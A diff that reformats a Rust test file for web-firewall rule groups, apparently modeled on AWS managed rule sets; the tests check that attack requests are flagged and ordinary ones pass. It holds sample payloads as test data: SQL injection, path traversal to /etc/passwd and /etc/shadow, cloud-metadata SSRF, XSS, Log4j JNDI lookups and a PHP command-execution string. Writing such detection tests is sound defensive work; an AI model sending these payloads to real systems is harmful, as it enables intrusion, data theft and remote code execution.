@@ -99,7 +99,9 @@ fn ordinary_traffic_passes_every_group() {
         get("/login", "next=https%3A%2F%2Fshop.example.com%2Faccount"),
         with_header(get("/", ""), "Cookie", "session=abc123; theme=dark; cart=3"),
         post("name=Jane+Doe&email=jane%40example.com&message=Hello%2C+I+would+like+a+refund."),
-        post(r#"{"title":"Meeting notes","body":"We agreed to ship on Friday & review after.","tags":["a","b"]}"#),
+        post(
+            r#"{"title":"Meeting notes","body":"We agreed to ship on Friday & review after.","tags":["a","b"]}"#,
+        ),
     ];
     for g in groups() {
         for r in &requests {
@@ -151,7 +153,11 @@ fn core_rule_set_rules_catch_their_attacks() {
     assert_caught(
         crs,
         "EC2MetaDataSSRF_COOKIE",
-        with_header(ordinary(), "Cookie", "next=http%3A%2F%2F169.254.169.254%2Flatest"),
+        with_header(
+            ordinary(),
+            "Cookie",
+            "next=http%3A%2F%2F169.254.169.254%2Flatest",
+        ),
     );
     assert_caught(
         crs,
@@ -168,14 +174,26 @@ fn core_rule_set_rules_catch_their_attacks() {
         "GenericLFI_QUERYARGUMENTS",
         get("/view", "file=..%2F..%2F..%2Fetc%2Fpasswd"),
     );
-    assert_caught(crs, "GenericLFI_URIPATH", get("/static/../../etc/passwd", ""));
-    assert_caught(crs, "GenericLFI_BODY", post("template=../../../../etc/shadow"));
+    assert_caught(
+        crs,
+        "GenericLFI_URIPATH",
+        get("/static/../../etc/passwd", ""),
+    );
+    assert_caught(
+        crs,
+        "GenericLFI_BODY",
+        post("template=../../../../etc/shadow"),
+    );
     assert_caught(
         crs,
         "RestrictedExtensions_URIPATH",
         get("/logs/debug.log", ""),
     );
-    assert_caught(crs, "RestrictedExtensions_URIPATH", get("/config/app.ini", ""));
+    assert_caught(
+        crs,
+        "RestrictedExtensions_URIPATH",
+        get("/config/app.ini", ""),
+    );
     assert_caught(
         crs,
         "RestrictedExtensions_QUERYARGUMENTS",
@@ -199,7 +217,11 @@ fn core_rule_set_rules_catch_their_attacks() {
     assert_caught(
         crs,
         "CrossSiteScripting_COOKIE",
-        with_header(ordinary(), "Cookie", "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        with_header(
+            ordinary(),
+            "Cookie",
+            "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        ),
     );
     assert_caught(
         crs,
@@ -221,13 +243,21 @@ fn core_rule_set_rules_catch_their_attacks() {
 #[test]
 fn sql_database_rules_catch_their_attacks() {
     let g = "AWSManagedRulesSQLiRuleSet";
-    assert_caught(g, "SQLi_QUERYARGUMENTS", get("/item", "id=1%27%20OR%20%271%27%3D%271"));
+    assert_caught(
+        g,
+        "SQLi_QUERYARGUMENTS",
+        get("/item", "id=1%27%20OR%20%271%27%3D%271"),
+    );
     assert_caught(
         g,
         "SQLiExtendedPatterns_QUERYARGUMENTS",
         get("/item", "id=1%20AND%20SLEEP(5)"),
     );
-    assert_caught(g, "SQLi_BODY", post("username=admin' OR '1'='1' --&password=x"));
+    assert_caught(
+        g,
+        "SQLi_BODY",
+        post("username=admin' OR '1'='1' --&password=x"),
+    );
     assert_caught(
         g,
         "SQLiExtendedPatterns_BODY",
@@ -236,13 +266,13 @@ fn sql_database_rules_catch_their_attacks() {
     assert_caught(
         g,
         "SQLi_COOKIE",
-        with_header(ordinary(), "Cookie", "uid=1%20UNION%20SELECT%20password%20FROM%20users"),
+        with_header(
+            ordinary(),
+            "Cookie",
+            "uid=1%20UNION%20SELECT%20password%20FROM%20users",
+        ),
     );
-    assert_caught(
-        g,
-        "SQLi_URIPATH",
-        get("/items/1'%20OR%201=1--", ""),
-    );
+    assert_caught(g, "SQLi_URIPATH", get("/items/1'%20OR%201=1--", ""));
 }
 
 #[test]
@@ -296,7 +326,10 @@ fn known_bad_inputs_rules_catch_their_attacks() {
     assert_caught(
         g,
         "Log4JRCE_QUERYSTRING",
-        get("/", "q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2Fx%7D"),
+        get(
+            "/",
+            "q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2Fx%7D",
+        ),
     );
     assert_caught(g, "Log4JRCE_BODY", post("name=${jndi:rmi://example.com/x}"));
     assert_caught(
@@ -339,7 +372,11 @@ fn admin_linux_unix_and_php_rules_catch_their_attacks() {
     assert_caught(
         php,
         "PHPHighRiskMethodsVariables_HEADER",
-        with_header(ordinary(), "X-Forwarded-Host", "<?php system($_GET['c']); ?>"),
+        with_header(
+            ordinary(),
+            "X-Forwarded-Host",
+            "<?php system($_GET['c']); ?>",
+        ),
     );
     assert_caught(
         php,
@@ -371,5 +408,9 @@ fn rules_whose_examples_are_near_ordinary_text_do_not_overreach() {
     )
     .is_empty());
     assert!(labels("AWSManagedRulesUnixRuleSet", &post("price=$5 & tax=$1")).is_empty());
-    assert!(labels("AWSManagedRulesAdminProtectionRuleSet", &get("/administration-guide", "")).is_empty());
+    assert!(labels(
+        "AWSManagedRulesAdminProtectionRuleSet",
+        &get("/administration-guide", "")
+    )
+    .is_empty());
 }
